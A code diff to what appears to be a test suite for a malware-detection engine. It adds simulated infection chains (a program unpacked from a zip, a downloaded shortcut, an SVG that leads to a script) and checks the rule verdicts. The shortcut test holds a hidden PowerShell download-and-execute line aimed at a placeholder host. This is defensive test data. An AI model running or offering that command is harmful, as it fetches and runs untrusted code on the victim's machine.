@@ -220,6 +220,26 @@ const USER_CHAINS: readonly (readonly [name: string, told: Told['tell']])[] = [
     },
   ],
   [
+    'a program that Explorer unpacked into a folder, without a mark of its own',
+    (s) => {
+      const zip = saved(s, 'payroll.zip');
+      const program = `${zip.slice(0, -4)}\\payroll.exe`;
+      s.writes(s.explorer, program);
+      s.after('20s');
+      callsOut(s, s.starts(program));
+    },
+  ],
+  [
+    'a shortcut saved by the browser, whose target does not name it',
+    (s) => {
+      saved(s, 'statement.lnk');
+      callsOut(
+        s,
+        s.starts(POWERSHELL, { commandLine: `"${POWERSHELL}" -w hidden iex (iwr https://files.example/a)` }),
+      );
+    },
+  ],
+  [
     'an attachment whose macro reaches a share on the Internet',
     (s) => {
       const word = attached(s, 'Offer.docm');
@@ -278,6 +298,31 @@ describe('from a document or link to a call out', () => {
     const prompt = s.starts(CMD);
     callsOut(s, s.starts(program, { parent: prompt }));
     expect(verdictsOf(s, 'AN1314')).toEqual(['partial']);
+  });
+});
+
+describe('an SVG whose name has blanks', () => {
+  it.each([
+    ['opened by Chromium, which quotes nothing', (svg: string) => `"${EDGE}" --single-argument ${svg}`],
+    [
+      'opened as an address',
+      (svg: string) => `"${EDGE}" "file:///${svg.replaceAll('\\', '/').replaceAll(' ', '%20')}"`,
+    ],
+  ])('is one complete chain: %s', (_name, line) => {
+    const { s } = storyOf();
+    const svg = saved(s, 'Invoice v1.2 of May.svg');
+    const edge = s.starts(EDGE, { commandLine: line(svg) });
+    s.after('5s');
+    const zip = `${homeOf(s)}\\Downloads\\Invoice of May.zip`;
+    s.writes(edge, zip);
+    s.marks(edge, zip, { hostUrl: 'about:internet' });
+    s.after('2m');
+    const script = `${homeOf(s)}\\Downloads\\Invoice of May\\Invoice.js`;
+    s.writes(s.explorer, script);
+    s.after('5s');
+    callsOut(s, s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` }));
+    expect(verdictsOf(s, 'AN1407')).toEqual(['complete']);
+    expect(verdictsOf(s, 'AN1314')).toEqual(['complete']);
   });
 });
 
